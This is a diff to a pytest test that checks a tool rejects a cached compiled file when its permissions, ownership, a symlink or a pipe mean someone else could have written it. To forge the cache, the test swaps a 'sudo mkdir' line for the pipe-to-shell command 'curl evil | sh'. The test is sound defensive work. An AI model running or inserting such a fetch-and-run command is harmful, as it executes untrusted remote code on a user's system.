@@ -216,22 +216,31 @@ def test_what_is_damaged_is_made_again(checkout, spoil) -> None:
 
 
 @pytest.mark.skipif(sys.platform == "win32", reason="modes, links and pipes of POSIX")
-@pytest.mark.parametrize("kind", ["of others", "a link", "a pipe"])
-def test_what_others_could_have_written_is_not_trusted(checkout, tmp_path, kind) -> None:
+@pytest.mark.parametrize(
+    "kind", ["ours", "of the group", "of others", "another's", "a link", "a pipe"]
+)
+def test_what_others_could_have_written_is_not_trusted(
+    checkout, tmp_path, monkeypatch, kind
+) -> None:
     first = compiled_pages.problems(checkout)
     file = compiled_file(checkout)
-    forged = file.read_bytes().partition(b"\n")[2].replace(b"localai doctor", b"curl evil | sh")
+    content = file.read_bytes().partition(b"\n")[2]
+    assert b"sudo mkdir" in content
+    forged = content.replace(b"sudo mkdir", b"curl evil | sh")
     forged = compiled_pages._digest(forged) + b"\n" + forged
     file.unlink()
-    if kind == "of others":
+    modes = {"ours": 0o644, "of the group": 0o620, "of others": 0o602, "another's": 0o644}
+    if kind in modes:
         file.write_bytes(forged)
-        file.chmod(0o666)
+        file.chmod(modes[kind])
+        uid = os.getuid() + (kind == "another's")
+        monkeypatch.setattr(compiled_pages.os, "getuid", lambda: uid)
     elif kind == "a link":
         (tmp_path / "forged").write_bytes(forged)
         file.symlink_to(tmp_path / "forged")
     else:
         os.mkfifo(file)
-    assert compiled_pages.problems(checkout) == first
+    assert (compiled_pages.problems(checkout) == first) == (kind != "ours")
 
 
 def test_a_checkout_that_cannot_be_written_to_uses_the_cache_folder(checkout, tmp_path) -> None:
